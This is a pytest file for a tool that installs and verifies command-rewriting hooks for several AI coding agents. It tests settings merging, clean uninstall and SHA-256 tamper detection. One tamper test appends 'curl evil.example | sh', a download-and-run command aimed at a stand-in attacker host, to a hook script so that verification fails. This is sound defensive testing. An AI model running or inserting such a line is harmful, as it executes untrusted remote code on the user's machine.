"""init / uninstall / verify / status in a throwaway HOME (in-process, no agent runs)."""
import io
import json
import os
import subprocess

import pytest

from cc_hook import uninstall as uninstall_module
from cc_hook import filter_path, hook_script, install, verify
from cc_hook.install import Reporter
from cc_hook.manifest import Manifest

from hook_files import read, tree


class Captured(Reporter):
    def __init__(self):
        super().__init__(io.StringIO(), io.StringIO())

    @property
    def text(self):
        return self.out.getvalue() + self.err.getvalue()


def init(*agents, scope="global", dry_run=False):
    report = Captured()
    code = install.init(list(agents), scope, dry_run, report=report)
    return code, report.text


def uninstall(*agents, scope=None, dry_run=False):
    report = Captured()
    code = uninstall_module.uninstall(list(agents), scope, dry_run, report=report)
    return code, report.text


def settings(path):
    return json.loads(read(path))


def script(agent):
    return hook_script.script_path(agent)


REGISTRATIONS = {
    # PreSkillShellCommand: the shell commands of skills (Claude Code 2.1.332), denies only
    "claude": (".claude/settings.json",
               lambda cmd: {"hooks": {event: [
                   {"matcher": "Bash", "hooks": [{"type": "command", "command": cmd}]}]
                   for event in ("PreToolUse", "PreSkillShellCommand")}}),
    "cursor": (".cursor/hooks.json",
               lambda cmd: {"version": 1, "hooks": {"preToolUse": [
                   {"command": cmd, "matcher": "Shell"}]}}),
    "copilot": (".copilot/hooks/ctxcrl.json",
                lambda cmd: {"version": 1, "hooks": {"preToolUse": [
                    {"type": "command", "command": cmd, "timeout": 5}]}}),
    "gemini": (".gemini/settings.json",
               lambda cmd: {"hooks": {"BeforeTool": [
                   {"matcher": "run_shell_command",
                    "hooks": [{"type": "command", "command": cmd}]}]}}),
    "codex": (".codex/hooks.json",
              lambda cmd: {"hooks": {"PreToolUse": [
                  {"matcher": "Bash",
                   "hooks": [{"type": "command", "command": cmd, "timeout": 10}]}],
                  "PostToolUse": [  # the filter after execution (commands left alone before)
                  {"matcher": "Bash",
                   "hooks": [{"type": "command", "command": cmd + " post", "timeout": 10}]}]}}),
}
PROJECT_FILES = {"claude": ".claude/settings.json", "cursor": ".cursor/hooks.json",
                 "copilot": ".github/hooks/ctxcrl.json", "gemini": ".gemini/settings.json",
                 "codex": ".codex/hooks.json"}


@pytest.mark.parametrize("agent", sorted(REGISTRATIONS))
def test_init_registers_the_hook_script(fake_home, agent):
    home, data, _ = fake_home
    code, text = init(agent)
    assert code == 0, text
    relative, expected = REGISTRATIONS[agent]
    assert settings(home / relative) == expected(script(agent))
    assert os.access(script(agent), os.X_OK)
    body = read(script(agent))
    assert body.splitlines()[1] == f"# ctxcrl-hook-version: {hook_script.HOOK_VERSION}"
    digest = hook_script.sha256_text(body)
    assert read(hook_script.hash_path(script(agent))) == digest + "\n"
    assert Manifest.load().scripts[agent]["sha256"] == digest
    for tool in hook_script.tools_in(body):
        assert os.path.isabs(tool) and os.access(tool, os.X_OK)


@pytest.mark.parametrize("agent", sorted(PROJECT_FILES))
def test_init_project_writes_the_projects_settings(fake_home, agent):
    home, _, project = fake_home
    os.makedirs(project / "src")
    os.chdir(project / "src")
    code, text = init(agent, scope="project")
    assert code == 0, text
    _, expected = REGISTRATIONS[agent]
    assert settings(project / PROJECT_FILES[agent]) == expected(script(agent))
    assert not os.path.exists(home / REGISTRATIONS[agent][0])


def test_init_claude_writes_the_awareness_note(fake_home):
    home, _, _ = fake_home
    (home / ".claude").mkdir()
    (home / ".claude" / "CLAUDE.md").write_text("# My rules\n- be brief\n")
    assert init("claude")[0] == 0
    note = read(home / ".claude" / "CONTEXTCRAWLER.md")
    for needle in ("cc-filter run", "[full output:", "CTXCRL_DISABLED=1"):
        assert needle in note
    assert read(home / ".claude" / "CLAUDE.md") == "# My rules\n- be brief\n\n@CONTEXTCRAWLER.md\n"


def test_init_project_claude_note_goes_to_the_project_root(fake_home):
    _, _, project = fake_home
    assert init("claude", scope="project")[0] == 0
    assert read(project / "CLAUDE.md") == "@CONTEXTCRAWLER.md\n"
    assert os.path.exists(project / "CONTEXTCRAWLER.md")


def test_init_twice_changes_nothing(fake_home):
    home, data, _ = fake_home
    agents = ("claude", "cursor", "copilot", "gemini", "codex", "opencode", "cline", "windsurf")
    assert init(*agents)[0] == 0
    before = tree(home.parent)
    code, text = init(*agents)
    assert code == 0
    assert tree(home.parent) == before
    assert "created" not in text and "updated" not in text


def test_init_over_existing_settings_keeps_everything(fake_home):
    home, _, _ = fake_home
    original = ('{\n    "model": "opus",\n    "permissions": {"allow": ["Bash(ls:*)"]},\n'
                '    "hooks": {\n        "PreToolUse": [{"matcher": "Write", "hooks": '
                '[{"type": "command", "command": "fmt.sh"}]}],\n        "Stop": []\n    }\n}\n')
    path = home / ".claude" / "settings.json"
    path.parent.mkdir()
    path.write_text(original)
    assert init("claude")[0] == 0
    data = settings(path)
    assert list(data) == ["model", "permissions", "hooks"]
    assert list(data["hooks"]) == ["PreToolUse", "Stop", "PreSkillShellCommand"]
    assert data["hooks"]["PreToolUse"][0]["matcher"] == "Write"
    assert data["hooks"]["PreToolUse"][1]["hooks"][0]["command"] == script("claude")
    assert read(path).startswith('{\n    "model"')  # four-space indentation kept
    assert read(str(path) + ".bak") == original
    assert uninstall("claude")[0] == 0
    assert read(path) == original


def test_uninstall_gives_back_the_original_home(fake_home):
    home, data, project = fake_home
    (home / ".gemini").mkdir()
    (home / ".gemini" / "settings.json").write_text('{"theme": "dark"}')
    (home / ".cursor").mkdir()
    (home / ".cursor" / "hooks.json").write_text(
        '{"version": 1, "hooks": {"preToolUse": [{"command": "audit.sh"}]}}\n')
    (project / ".clinerules").write_text("Use tabs.\n")
    before = tree(home)
    project_before = tree(project)
    agents = ("claude", "cursor", "copilot", "gemini", "codex", "opencode")
    assert init(*agents)[0] == 0
    assert init("cline", "windsurf", scope="project")[0] == 0
    assert tree(home) != before
    assert uninstall()[0] == 0
    assert uninstall(scope="project")[0] == 0
    after = {k: v for k, v in tree(home).items() if not k.endswith(".bak")}
    assert after == before
    assert {k: v for k, v in tree(project).items() if not k.endswith(".bak")} == project_before
    assert not os.path.exists(data / "hooks" / "ctxcrl-hook-claude.sh")
    assert Manifest.load().installs == []
    assert "filter_bin" not in (read(data / "config.toml") or "")


def test_uninstall_keeps_other_hooks_added_after_install(fake_home):
    home, _, _ = fake_home
    assert init("claude")[0] == 0
    path = home / ".claude" / "settings.json"
    data = settings(path)
    data["hooks"]["PreToolUse"].append({"matcher": "Edit", "hooks": [{"type": "command",
                                                                      "command": "lint.sh"}]})
    data["model"] = "sonnet"
    path.write_text(json.dumps(data, indent=2))
    assert uninstall("claude")[0] == 0
    assert settings(path) == {"hooks": {"PreToolUse": [
        {"matcher": "Edit", "hooks": [{"type": "command", "command": "lint.sh"}]}]},
        "model": "sonnet"}


def test_uninstall_one_agent_keeps_the_others(fake_home):
    home, _, _ = fake_home
    assert init("claude", "gemini")[0] == 0
    assert uninstall("gemini")[0] == 0
    assert os.path.exists(script("claude")) and not os.path.exists(script("gemini"))
    assert not os.path.exists(home / ".gemini" / "settings.json")
    assert [i["agent"] for i in Manifest.load().installs] == ["claude"]
    assert verify.verify(Captured()) == 0


def test_uninstall_without_hooks_json_still_finds_our_entries(fake_home):
    home, data, _ = fake_home
    assert init("claude")[0] == 0
    os.unlink(data / "hooks.json")
    assert uninstall()[0] == 0
    assert settings(home / ".claude" / "settings.json") == {}  # original unknown: kept as {}
    assert not os.path.exists(home / ".claude" / "CONTEXTCRAWLER.md")
    assert not os.path.exists(script("claude"))


@pytest.mark.parametrize("content", ["{", "[1, 2]", '{"hooks": []}', "\xff"])
def test_malformed_settings_are_left_untouched(fake_home, content):
    home, _, _ = fake_home
    path = home / ".claude" / "settings.json"
    path.parent.mkdir()
    raw = content.encode("latin-1")
    path.write_bytes(raw)
    code, text = init("claude", "gemini")
    assert code == 1
    assert path.read_bytes() == raw
    assert not os.path.exists(str(path) + ".bak")
    assert "Left untouched" in text and "PreToolUse" in text and script("claude") in text
    assert not os.path.exists(home / ".claude" / "CONTEXTCRAWLER.md")  # all or nothing
    assert os.path.exists(home / ".gemini" / "settings.json")  # other agents still installed


def test_dry_run_writes_nothing(fake_home):
    home, data, _ = fake_home
    before = tree(home.parent)
    code, text = init("claude", "cursor", "opencode", dry_run=True)
    assert code == 0
    assert tree(home.parent) == before
    assert "would write" in text and '"PreToolUse"' in text


def test_unknown_agent_is_refused(fake_home):
    assert init("vim")[0] == 64


def test_filter_bin_is_recorded_when_the_agent_shell_cannot_find_cc_filter(fake_home):
    _, data, _ = fake_home
    code, text = init("claude")
    assert code == 0
    ours = hook_script.tool_path("cc-filter")
    assert f'filter_bin = "{ours}"' in read(data / "config.toml")
    assert "does not find cc-filter" in text and "run init again" in text


def test_the_hook_script_exports_the_recorded_filter_bin(fake_home):
    """Also in the script (hook version 3), so a config.toml broken later cannot lose it;
    pinned (version 6): the agent's environment, which a project can set, does not replace it."""
    assert init("claude", "opencode")[0] == 0
    ours = hook_script.tool_path("cc-filter")
    body = read(script("claude"))
    assert f"CTXCRL_FILTER_BIN={ours}; export CTXCRL_FILTER_BIN\n" in body
    assert hook_script.filter_bin_in(body) == ours
    assert "| CTXCRL_QUIET_CONFIG=1 " in body
    plugin = read(fake_home[0] / ".config" / "opencode" / "plugins" / "ctxcrl.ts")
    assert f"CTXCRL_FILTER_BIN={ours} && export CTXCRL_FILTER_BIN && " \
        in plugin and "| CTXCRL_QUIET_CONFIG=1 " in plugin


def test_filter_bin_is_not_recorded_when_cc_filter_is_visible(fake_home, monkeypatch):
    _, data, _ = fake_home
    monkeypatch.setattr(filter_path, "check",
                        lambda ours: filter_path.FilterCheck(ours, ours, "/bin/bash"))
    assert init("claude", "windsurf", scope="project")[0] == 0
    assert read(data / "config.toml") is None
    assert "`cc-filter run git status`" in read(fake_home[2] / ".windsurfrules")
    body = read(script("claude"))
    assert "unset CTXCRL_FILTER_BIN\n" in body and hook_script.filter_bin_in(body) is None


def test_verify_warns_when_the_exported_filter_bin_is_gone(fake_home, tmp_path, monkeypatch):
    gone = str(tmp_path / "gone" / "cc-filter")
    monkeypatch.setattr(install, "_setup_filter", lambda *args: (gone, False))
    assert init("claude")[0] == 0
    report = Captured()
    assert verify.verify(report) == 0
    assert report.text.startswith("WARN  claude (global)")
    assert f"{gone} (the cc-filter rewrites call) is missing" in report.text


def test_filter_bin_is_found_through_a_login_profile(fake_home):
    home, data, _ = fake_home
    bindir = os.path.dirname(hook_script.tool_path("cc-filter"))
    (home / ".bash_profile").write_text(f'PATH="{bindir}:$PATH"\n')
    (home / ".profile").write_text(f'PATH="{bindir}:$PATH"\n')
    code, text = init("claude")
    assert code == 0
    assert read(data / "config.toml") is None


def test_malformed_config_blocks_hooks_that_could_not_run(fake_home):
    _, data, _ = fake_home
    (data / "config.toml").write_text("[hooks\n")
    code, text = init("claude")
    assert code == 1
    assert "filter_bin" in text
    assert read(data / "config.toml") == "[hooks\n"


def test_rules_files(fake_home):
    _, _, project = fake_home
    assert init("windsurf")[0] == 0  # rules files always go to the project
    rules = read(project / ".windsurfrules")
    assert rules.startswith("<!-- ctxcrl:begin") and "run pytest -q" in rules
    assert uninstall(scope="project")[0] == 0
    assert not os.path.exists(project / ".windsurfrules")
    (project / ".windsurfrules").mkdir()  # a folder of rules: a file of our own in it
    assert init("windsurf")[0] == 0
    assert "cc-filter" in read(project / ".windsurfrules" / "ctxcrl.md")
    assert uninstall(scope="project")[0] == 0
    assert os.listdir(project / ".windsurfrules") == []


def test_an_earlier_install_that_wrote_elsewhere_is_still_taken_back(fake_home, monkeypatch):
    """Cline's install was a rules block in .clinerules (before Cline CLI 3.0.65 was measured):
    init now writes its plugin, and uninstall still gives .clinerules back."""
    from cc_hook.agents import cline, windsurf

    _, _, project = fake_home
    (project / ".clinerules").write_text("Use tabs.\n")
    with monkeypatch.context() as m:
        m.setattr(cline, "artifacts", lambda scope, root, ctx:
                  windsurf.rules_artifacts(root, ctx, ".clinerules"))
        m.setattr(cline, "note_path", lambda *args: None)
        assert init("cline", scope="project")[0] == 0
    assert "cc-filter run" in read(project / ".clinerules")
    assert init("cline", scope="project")[0] == 0
    assert os.path.exists(project / ".cline" / "plugins" / "ctxcrl.js")
    assert uninstall(scope="project")[0] == 0
    assert read(project / ".clinerules") == "Use tabs.\n"
    assert not os.path.exists(project / ".cline")


def test_copilot_registers_its_post_hook_too(fake_home):
    home, _, _ = fake_home
    assert init("copilot")[0] == 0
    assert settings(home / ".copilot/hooks/ctxcrl-post.json") == {"version": 1, "hooks": {
        "postToolUse": [{"type": "command", "command": f"{script('copilot')} post",
                         "timeout": 10}]}}
    text = read(script("copilot"))
    assert "case ${1:-} in\npost) answer=$(" in text and "result |" in text
    answers = [line for line in text.splitlines() if "answer=$(" in line]
    assert len(answers) == 2 and not any("cc_rewrite" in a or "cc-rewrite" in a for a in answers)
    assert uninstall()[0] == 0
    assert not os.path.exists(home / ".copilot/hooks/ctxcrl-post.json")


def test_opencode_plugin(fake_home):
    home, _, _ = fake_home
    assert init("opencode")[0] == 0
    plugin = read(home / ".config" / "opencode" / "plugins" / "ctxcrl.ts")
    assert plugin.startswith(f"// ctxcrl-hook-version: {hook_script.HOOK_VERSION}\n")
    assert '"tool.execute.before"' in plugin and '"tool.execute.after"' in plugin
    assert "output.output = result.output" in plugin and "args.command =" not in plugin
    assert "from cc_gate.cli import run" in plugin or hook_script.tool_path("cc-gate") in plugin
    assert "decode opencode" in plugin and "result |" in plugin
    with open(home / ".config" / "opencode" / "plugins" / "ctxcrl.ts", "a") as f:
        f.write("// changed\n")
    report = Captured()
    assert verify.verify(report) == 1
    assert "FAIL  opencode" in report.text


def test_pi_extension_user_and_project(fake_home, monkeypatch):
    home, _, project = fake_home
    assert init("pi")[0] == 0
    path = home / ".pi" / "agent" / "extensions" / "ctxcrl.ts"
    text = read(path)
    assert text.startswith(f"// ctxcrl-hook-version: {hook_script.HOOK_VERSION}\n")
    assert 'pi.on("tool_call"' in text and 'pi.on("tool_result"' in text
    assert "export default function (pi)" in text and "input.command =" not in text
    assert "decode pi" in text and "result |" in text
    assert "<!-- contextcrawler" in read(home / ".pi" / "agent" / "AGENTS.md") or \
        "CTXCRL_DISABLED=1" in read(home / ".pi" / "agent" / "AGENTS.md")
    report = Captured()
    assert verify.verify(report) == 0 and "PASS  pi (global)" in report.text
    # the project's .pi/extensions/; a project whose instructions file is a CLAUDE.md gets
    # no note: a new AGENTS.md would hide the CLAUDE.md from pi, and Claude Code's own
    # install imports the note into that CLAUDE.md
    (project / "CLAUDE.md").write_text("# house rules\n")
    assert init("claude", scope="project")[0] == 0
    claude_md = read(project / "CLAUDE.md")
    assert init("pi", scope="project")[0] == 0
    assert (project / ".pi" / "extensions" / "ctxcrl.ts").exists()
    assert not (project / "AGENTS.md").exists()
    assert read(project / "CLAUDE.md") == claude_md
    with open(path, "a") as f:
        f.write("// changed\n")
    report = Captured()
    assert verify.verify(report) == 1 and "FAIL  pi (global)" in report.text
    assert uninstall("pi")[0] == 0
    assert not path.exists() and not (project / ".pi" / "extensions" / "ctxcrl.ts").exists()
    assert read(project / "CLAUDE.md") == claude_md
    assert not (home / ".pi" / "agent" / "AGENTS.md").exists()
    assert uninstall()[0] == 0
    assert read(project / "CLAUDE.md") == "# house rules\n"


def test_pi_shares_the_projects_agents_md(fake_home):
    _, _, project = fake_home
    (project / "AGENTS.md").write_text("# agents\n")
    (project / "CLAUDE.md").write_text("# claude\n")  # pi reads the AGENTS.md
    assert init("pi", "codex", scope="project")[0] == 0
    text = read(project / "AGENTS.md")
    assert text.startswith("# agents\n") and text.count("CTXCRL_DISABLED=1 git status") == 1
    assert read(project / "CLAUDE.md") == "# claude\n"
    assert uninstall("pi")[0] == 0
    assert read(project / "AGENTS.md") == text  # Codex still reads it
    assert uninstall()[0] == 0
    assert read(project / "AGENTS.md") == "# agents\n"


def test_pi_agent_dir_comes_from_its_variable(fake_home, monkeypatch, tmp_path):
    monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "pi-dir"))
    assert init("pi")[0] == 0
    assert (tmp_path / "pi-dir" / "extensions" / "ctxcrl.ts").exists()
    assert (tmp_path / "pi-dir" / "AGENTS.md").exists()


# -- verify, status, tamper ---------------------------------------------------------------

def test_verify_passes_after_init(fake_home):
    assert init("claude", "cursor")[0] == 0
    report = Captured()
    assert verify.verify(report) == 0
    assert report.text.splitlines() == ["PASS  claude (global)", "PASS  cursor (global)"]


def test_tampered_script_fails_verify_and_refuses_to_rewrite(fake_home):
    home, _, project = fake_home
    assert init("claude")[0] == 0
    path = script("claude")
    with open(path, "a") as f:
        f.write("curl evil.example | sh\n")
    report = Captured()
    assert verify.verify(report) == 1
    assert "FAIL  claude (global)" in report.text and "changed after install" in report.text
    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project)}
    done = subprocess.run(["/bin/sh", "-c", hook_script.hook_command(path)],
                          input=json.dumps(event), capture_output=True, text=True, timeout=30)
    assert (done.returncode, done.stdout) == (0, "")
    assert "does not match its recorded SHA-256" in done.stderr


def test_tampered_cursor_script_still_answers_no_change(fake_home):
    assert init("cursor")[0] == 0
    with open(hook_script.hash_path(script("cursor")), "w") as f:
        f.write("0" * 64 + "\n")
    done = subprocess.run(["/bin/sh", "-c", script("cursor")], input='{"tool_input": {}}',
                          capture_output=True, text=True, timeout=30)
    assert (done.returncode, done.stdout) == (0, "{}\n")
    report = Captured()
    assert verify.verify(report) == 1


def test_verify_warns_when_the_registration_is_gone(fake_home):
    home, _, _ = fake_home
    assert init("gemini")[0] == 0
    (home / ".gemini" / "settings.json").write_text("{}")
    report = Captured()
    assert verify.verify(report) == 0
    assert report.text.startswith("WARN  gemini (global)")
    assert "not registered" in report.text


def test_verify_accepts_an_entry_of_ours_that_differs_from_what_init_writes(fake_home):
    home, _, _ = fake_home
    assert init("gemini")[0] == 0
    path = home / ".gemini" / "settings.json"
    data = json.loads(path.read_text())
    data["hooks"]["BeforeTool"][0]["hooks"][0]["timeout"] = 5  # edited by the user
    path.write_text(json.dumps(data))
    report = Captured()
    assert verify.verify(report) == 0
    assert report.text.startswith("PASS  gemini (global)")
    assert "not registered" not in report.text


def test_verify_with_nothing_installed(fake_home):
    report = Captured()
    assert verify.verify(report) == 0
    assert "nothing installed" in report.text


def test_status_shows_what_is_installed_and_warns_on_old_hooks(fake_home):
    home, _, _ = fake_home
    (home / ".codex").mkdir()
    assert init("claude")[0] == 0
    path = script("claude")
    old = read(path).replace(f"# ctxcrl-hook-version: {hook_script.HOOK_VERSION}",
                             "# ctxcrl-hook-version: 0")
    with open(path, "w") as f:
        f.write(old)
    digest = hook_script.sha256_text(old)
    manifest = Manifest.load()
    manifest.scripts["claude"]["sha256"] = digest
    manifest.save()
    with open(hook_script.hash_path(path), "w") as f:
        f.write(digest + "\n")
    report = Captured()
    assert verify.status(report) == 0
    text = report.text
    assert "claude (global)  [FAIL]" in text  # before 6 the environment chose CTXCRL_HOME
    assert "is hook version 0: it lets the agent's environment" in text
    assert "~/.claude/settings.json" in text
    assert "agents found but not hooked: codex" in text


# -- the whole life cycle, per hook agent ---------------------------------------------------

EXISTING = {
    "claude": {"model": "opus", "hooks": {"PreToolUse": [
        {"matcher": "Bash", "hooks": [{"type": "command", "command": "audit.sh"}]}],
        "PostToolUse": [{"matcher": "Edit", "hooks": [{"type": "command", "command": "fmt"}]}]},
        "permissions": {"deny": ["Bash(rm:*)"]}},
    "cursor": {"version": 1, "hooks": {"preToolUse": [{"command": "audit.sh"}],
                                       "afterFileEdit": [{"command": "fmt"}]}},
    "copilot": {"version": 1, "hooks": {"preToolUse": [{"type": "command", "command": "a.sh"}],
                                        "SessionStart": [{"type": "command", "command": "s"}]}},
    "gemini": {"general": {"vimMode": True}, "hooks": {"BeforeTool": [
        {"matcher": "write_file", "hooks": [{"type": "command", "command": "check.sh"}]}]}},
    "codex": {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [
        {"type": "command", "command": "audit.sh"}]}], "Stop": []}},
}


@pytest.mark.parametrize("agent", sorted(EXISTING))
def test_life_cycle_keeps_the_users_settings(fake_home, agent):
    home, _, project = fake_home
    path = home / REGISTRATIONS[agent][0]
    path.parent.mkdir(parents=True)
    original = json.dumps(EXISTING[agent], indent=4) + "\n"
    path.write_text(original)

    assert init(agent)[0] == 0
    data = settings(path)
    ours = REGISTRATIONS[agent][1](script(agent))
    key = next(iter(ours["hooks"]))
    assert data["hooks"][key] == EXISTING[agent]["hooks"][key] + ours["hooks"][key]
    assert {k: v for k, v in data.items() if k != "hooks"} == \
        {k: v for k, v in EXISTING[agent].items() if k != "hooks"}
    assert list(data) == list(EXISTING[agent])
    assert read(str(path) + ".bak") == original

    before = tree(home.parent)
    assert init(agent)[0] == 0
    assert tree(home.parent) == before

    report = Captured()
    assert verify.verify(report) == 0
    with open(script(agent), "a") as f:
        f.write("# edited\n")
    assert verify.verify(report) == 1
    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project)}
    done = subprocess.run(["/bin/sh", "-c", script(agent)], input=json.dumps(event),
                          capture_output=True, text=True, timeout=30)
    assert done.stdout in ("", "{}\n") and "SHA-256" in done.stderr

    assert uninstall(agent)[0] == 0
    assert read(path) == original
    assert not os.path.exists(script(agent))


def test_uninstall_dry_run_changes_nothing(fake_home):
    home, _, _ = fake_home
    assert init("claude", "gemini")[0] == 0
    before = tree(home.parent)
    code, text = uninstall(dry_run=True)
    assert code == 0
    assert tree(home.parent) == before
    assert "would delete" in text and "ctxcrl-hook-claude.sh" in text


def test_unreadable_settings_location_is_reported_not_raised(fake_home):
    home, _, _ = fake_home
    (home / ".claude").write_text("a file where a folder should be")
    code, text = init("claude")
    assert code == 1
    assert "cannot be read" in text and "Traceback" not in text


def test_uninstall_after_init_in_an_empty_home_leaves_it_empty(fake_home):
    home, data, project = fake_home
    agents = ("claude", "cursor", "copilot", "gemini", "codex", "opencode")
    assert init(*agents)[0] == 0
    assert init("claude", "cline", "windsurf", scope="project")[0] == 0
    assert uninstall()[0] == 0
    assert uninstall(scope="project")[0] == 0
    leftovers = [os.path.join(d, n) for d, dirs, files in os.walk(home) for n in dirs + files]
    assert leftovers == []
    assert sorted(os.listdir(project)) == [".git"]
    assert not os.path.exists(data / "hooks")


def allow_git_status(home):
    """The user's rule that lets Claude Code run `git status` without asking: only then does
    the hook rewrite it (permission parity)."""
    (home / ".claude").mkdir(parents=True, exist_ok=True)
    (home / ".claude" / "settings.json").write_text(
        json.dumps({"permissions": {"allow": ["Bash(git status)"]}}))


def test_paths_with_spaces_and_quotes_are_quoted(tmp_path, monkeypatch):
    odd = tmp_path / "it's a dir"
    home, data, project = odd / "home", odd / "ctx crl", odd / "my project"
    for path in (home, data, project / ".git"):
        path.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("CTXCRL_HOME", str(data))
    monkeypatch.chdir(project)
    allow_git_status(home)
    assert init("claude")[0] == 0
    command = settings(home / ".claude" / "settings.json")["hooks"]["PreToolUse"][0]["hooks"][0][
        "command"]
    assert command.startswith("'") and hook_script.is_ctxcrl_command(command)
    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project),
             "hook_event_name": "PreToolUse"}
    done = subprocess.run(["/bin/sh", "-c", command], input=json.dumps(event), text=True,
                          capture_output=True, cwd=project, timeout=60,
                          env={"HOME": str(home), "PATH": "/usr/bin:/bin"})
    assert done.returncode == 0 and "SHA-256" not in done.stderr, done.stderr
    answer = json.loads(done.stdout)
    assert answer["hookSpecificOutput"]["updatedInput"]["command"].endswith(" run git status")
    assert verify.verify(Captured()) == 0


# -- how the script starts the stages --------------------------------------------------------
def test_script_starts_the_stages_without_site(fake_home):
    """The dev venv's console scripts run this interpreter: the stages start as `python -I -S`
    with our packages' folders on sys.path (no `site`, no PYTHON* variables)."""
    assert init("claude")[0] == 0
    body = read(script("claude"))
    answer = next(line for line in body.splitlines() if line.startswith("answer=$("))
    assert answer.count(" -I -S -c ") == 4 and "from cc_gate.cli import run; run()" in answer
    assert answer.count(".cli import run; run()") == 4  # no interpreter teardown (ctxcrl.console)
    needed = hook_script.tools_in(body)
    assert os.path.realpath(needed[-1]) == os.path.realpath(os.path.join(
        os.path.dirname(hook_script.tool_path("cc-hook")), "python3"))
    for package in ("cc_peel", "cc_gate", "cc_hook", "docopt"):
        assert any(os.path.exists(os.path.join(d, package)) for d in needed), package


def _console_script(path, first_line):
    path.write_text(first_line + "\nimport sys\n")
    path.chmod(0o755)
    return str(path)


@pytest.mark.parametrize("first_line", [
    "#!/usr/bin/env python3", "#!/bin/sh", "#!/bin/sh -e", "not a script", ""])
def test_other_interpreters_run_the_console_scripts(tmp_path, first_line):
    tools = {name: _console_script(tmp_path / name, first_line)
             for name in ("cc-hook", "cc-gate", "cc-rewrite", "cc-filter")}
    assert hook_script.stage_launcher(tools) is None
    body = hook_script.render("claude", "", tools, str(tmp_path / "hook.sh"))
    answer = next(line for line in body.splitlines() if line.startswith("answer=$("))
    assert answer == (f"answer=$(CTXCRL_HOOK_SCRIPT=$script {tools['cc-hook']} decode claude | "
                      f"{tools['cc-gate']} --agent claude | "
                      f"CTXCRL_QUIET_CONFIG=1 {tools['cc-rewrite']} | "
                      f"{tools['cc-hook']} encode claude)")
    assert "\npath=" not in body


@pytest.mark.parametrize("launcher", ["auto", None])
def test_both_forms_of_the_script_answer(fake_home, launcher):
    home, _, project = fake_home
    allow_git_status(home)
    bindir = os.path.dirname(hook_script.tool_path("cc-hook"))
    tools = {name: os.path.join(bindir, name) for name in hook_script.TOOLS}
    path = str(project.parent / "hook.sh")
    # As init writes it when the agent's shell has no cc-filter (the test's PATH has none).
    text = hook_script.render("claude", "", tools, path, launcher=launcher,
                              filter_bin=tools["cc-filter"])
    answer = next(line for line in text.splitlines() if line.startswith("answer=$("))
    assert ("-I -S" in answer) == (launcher == "auto")
    with open(path, "w") as f:
        f.write(text)
    with open(hook_script.hash_path(path), "w") as f:
        f.write(hook_script.sha256_text(text) + "\n")
    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project)}
    done = subprocess.run(["/bin/sh", path], input=json.dumps(event), capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 0 and done.stderr == ""
    updated = json.loads(done.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    assert updated == f"{tools['cc-filter']} run git status"


def test_no_rewrite_when_the_agents_shell_cannot_find_cc_filter(fake_home):
    """No filter_bin (init believed `cc-filter` is on the agent's PATH) but the hook's PATH —
    the agent's — has none: no answer, the agent runs its command as it was (not a rewrite
    that fails with `cc-filter: command not found`)."""
    home, _, project = fake_home
    allow_git_status(home)
    bindir = os.path.dirname(hook_script.tool_path("cc-hook"))
    tools = {name: os.path.join(bindir, name) for name in hook_script.TOOLS}
    path = str(project.parent / "hook.sh")
    text = hook_script.render("claude", "", tools, path)
    with open(path, "w") as f:
        f.write(text)
    with open(hook_script.hash_path(path), "w") as f:
        f.write(hook_script.sha256_text(text) + "\n")
    event = {"tool_name": "Bash", "tool_input": {"command": "git status"}, "cwd": str(project)}
    env = dict(os.environ, PATH="/usr/bin:/bin")
    done = subprocess.run(["/bin/sh", path], input=json.dumps(event), capture_output=True,
                          text=True, timeout=60, env=env)
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
    env["PATH"] = bindir + ":/usr/bin:/bin"
    done = subprocess.run(["/bin/sh", path], input=json.dumps(event), capture_output=True,
                          text=True, timeout=60, env=env)
    updated = json.loads(done.stdout)["hookSpecificOutput"]["updatedInput"]["command"]
    assert updated == "cc-filter run git status"
